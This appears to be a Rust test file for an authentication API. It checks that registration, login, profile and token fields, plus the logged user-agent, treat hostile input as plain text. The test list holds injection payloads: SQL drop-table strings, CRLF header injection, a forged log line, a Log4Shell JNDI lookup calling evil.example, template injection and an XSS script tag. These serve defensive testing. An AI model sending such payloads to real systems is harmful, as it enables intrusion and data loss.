//! Text that would be SQL, a header or a line of the log somewhere else: here it is a name, or refused.

use actix_web::test::TestRequest;
use serde_json::{Value, json};

use super::world::{PASSWORD, World, world};

const HOSTILE: [&str; 12] = [
    "'; drop table users; --",
    "\" or 1=1 --",
    "mira' or '1'='1",
    "mira\u{0}",
    "mira\r\nSet-Cookie: a=b",
    "mira\nlevel=ERROR forged line",
    "\u{1b}[31mred\u{1b}[0m",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "%00%0d%0a",
    "\u{202e}\u{feff}\u{1F600}",
];

/// Nothing fell over: the answer is one of a person's mistakes or a success, in the one form.
fn assert_sane(status: u16, body: &Value, what: &str) {
    assert!(status < 500 && (status < 300 || body["error"].is_string()), "{what}: {status} {body}");
}

async fn assert_whole(world: &World) {
    assert_eq!(world.login("mira", PASSWORD).await.status, 200);
    assert_eq!(world.count("select count(*) from users where role = 'admin'").await, 0);
}

#[actix_web::test]
async fn no_field_of_signing_up_or_in_is_taken_for_anything_but_text() {
    let world = world().await;
    world.register("mira").await;
    for (n, text) in HOSTILE.iter().enumerate() {
        for field in ["email", "password", "username", "displayName"] {
            let mut body = json!({"email": format!("e{n}{field}@example.com"), "password": PASSWORD,
                "username": format!("u{n}{field}"), "displayName": "Mira"});
            body[field] = json!(text);
            let answer = world.post("/api/auth/register", body).await;
            assert_sane(answer.status, &answer.body, &format!("register {field} {text:?}"));
        }
        for field in ["email", "username", "mobile"] {
            let mut body = json!({"password": PASSWORD});
            body[field] = json!(text);
            let answer = world.post("/api/auth/login", body).await;
            assert!(matches!(answer.status, 400 | 401), "login {field} {text:?}: {}", answer.body);
        }
        let answer = world.login("mira", text).await;
        assert_eq!(answer.status, 401, "{text:?}");
    }
    assert_whole(&world).await;
}

#[actix_web::test]
async fn no_field_of_a_profile_a_link_or_a_session_is_either() {
    let world = world().await;
    let mira = world.register("mira").await;
    let token = mira.text("accessToken");
    for text in HOSTILE {
        for field in ["displayName", "bio", "locale", "email", "timeZone"] {
            let answer = world.put_as(token, "/api/auth/me", json!({ field: text })).await;
            assert_sane(answer.status, &answer.body, &format!("{field} {text:?}"));
            if answer.status == 200 && field != "email" {
                assert_eq!(
                    answer.body["user"][field].as_str().map(str::trim),
                    Some(text.trim().replace("\r\n", "\n").as_str()),
                    "kept as it is"
                );
            }
        }
        for (path, body) in [
            ("/api/auth/verify-email", json!({ "token": text })),
            ("/api/auth/reset-password", json!({"token": text, "newPassword": PASSWORD})),
            ("/api/auth/reset-password", json!({"mobile": text, "otp": text, "newPassword": PASSWORD})),
            ("/api/auth/forgot-password", json!({ "email": text })),
            ("/api/auth/forgot-password", json!({ "mobile": text })),
            ("/api/auth/refresh-token", json!({ "refreshToken": text })),
        ] {
            let answer = world.post(path, body).await;
            assert!(matches!(answer.status, 400 | 401), "{path} {text:?}: {}", answer.body);
        }
        let body = json!({"currentPassword": text, "newPassword": text});
        let request = TestRequest::post().uri("/api/auth/change-password");
        assert_eq!(world.call_as(token, request, body).await.status, 400, "{text:?}");
    }
    assert_whole(&world).await;
}

#[actix_web::test]
async fn what_a_client_calls_itself_cannot_break_out_of_its_line() {
    let world = world().await;
    let mira = world.register("mira").await;
    let agent = "Probe'; drop table sign_ins; -- \t \u{80}\u{9f} <b>";
    let request = TestRequest::post()
        .uri("/api/auth/login")
        .insert_header(("user-agent", agent))
        .set_json(json!({"username": "mira", "password": PASSWORD}));
    assert_eq!(world.send(request).await.status, 200);
    let lines = world.history(mira.text("accessToken"), 3).await;
    let kept = lines[0]["userAgent"].as_str().unwrap_or_default();
    assert!(!kept.chars().any(char::is_control), "{kept:?}");
    let long = TestRequest::post()
        .uri("/api/auth/login")
        .insert_header(("user-agent", "x".repeat(4_000)))
        .set_json(json!({"username": "mira", "password": PASSWORD}));
    assert_eq!(world.send(long).await.status, 200);
    let lines = world.history(mira.text("accessToken"), 4).await;
    assert_eq!(lines[0]["userAgent"].as_str().map(str::len), Some(300));
}
